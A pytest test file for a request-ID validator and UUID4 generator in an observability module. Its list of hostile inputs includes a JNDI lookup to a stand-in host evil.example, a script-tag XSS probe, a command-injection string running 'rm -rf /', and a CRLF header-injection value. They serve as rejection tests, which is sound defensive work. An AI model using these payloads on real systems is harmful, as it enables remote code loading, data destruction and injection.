"""What counts as a valid request ID, and how new ones look."""

from __future__ import annotations

import uuid

import pytest
from hypothesis import given
from hypothesis import strategies as st

from observability.request_id import MAX_LENGTH, generate_request_id, is_valid_request_id

# Literals only: a parameter is part of the test's ID, which pytest-xdist's workers must collect alike.
VALID = [
    "a", "trace-test-456", "5f0c2b9e-8d4a-4c1e-9b7f-3a6d2e1c0b94", "01HV6Z8Y2V8XK2Q3W4E5R6T7Y8",
    "svc:req/42+x=@home_1.2", "x" * MAX_LENGTH,
]
HOSTILE = [
    "", "-" * 8000, "x" * (MAX_LENGTH + 1), "line\nbreak", "nul\x00byte", "tab\there", "bell\x07",
    "\x1b[31mred\x1b[0m", 'quote"d', "single'quote", "with space", "ünïcödé", "emoji-😀",
    "${jndi:ldap://evil.example/a}", "<script>alert(1)</script>", "a;rm -rf /", "back\\slash", "semi;colon",
    "comma,separated", "crlf\r\nSet-Cookie: x=1",
]


@pytest.mark.parametrize("value", VALID)
def test_valid_ids(value):
    assert is_valid_request_id(value)


@pytest.mark.parametrize("value", HOSTILE, ids=range(len(HOSTILE)))
def test_hostile_ids_are_invalid(value):
    assert not is_valid_request_id(value)


def test_none_is_invalid():
    assert not is_valid_request_id(None)


@given(st.text(alphabet=st.characters(codec="ascii", categories=["L", "N"]) | st.sampled_from("-_.:/+=@"),
               min_size=1, max_size=MAX_LENGTH))
def test_every_string_of_allowed_characters_is_valid(value):
    assert is_valid_request_id(value)


@given(st.text())
def test_validity_matches_the_documented_rule(value):
    allowed = set("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789-_.:/+=@")
    expected = 1 <= len(value) <= MAX_LENGTH and set(value) <= allowed
    assert is_valid_request_id(value) is expected


def test_generated_ids_are_uuid4_strings_and_valid():
    ids = {generate_request_id() for _ in range(100)}
    assert len(ids) == 100
    for value in ids:
        assert str(uuid.UUID(value)) == value and uuid.UUID(value).version == 4
        assert is_valid_request_id(value)


def test_generated_ids_stay_unique_across_batches_and_threads():
    from concurrent.futures import ThreadPoolExecutor

    with ThreadPoolExecutor(max_workers=8) as pool:
        ids = list(pool.map(lambda _: generate_request_id(), range(5000)))
    assert len(set(ids)) == 5000


def test_a_forked_child_does_not_reuse_the_parents_pending_ids():
    import os

    from observability import request_id

    generate_request_id()  # leaves a batch of pending IDs in this process
    pending = set(request_id._ready)
    assert pending
    read, write = os.pipe()
    pid = os.fork()
    if pid == 0:  # the child: report the first ID it hands out, then leave at once
        os.write(write, generate_request_id().encode())
        os._exit(0)
    os.waitpid(pid, 0)
    child_id = os.read(read, 64).decode()
    os.close(read), os.close(write)
    assert uuid.UUID(child_id).version == 4
    assert child_id not in pending
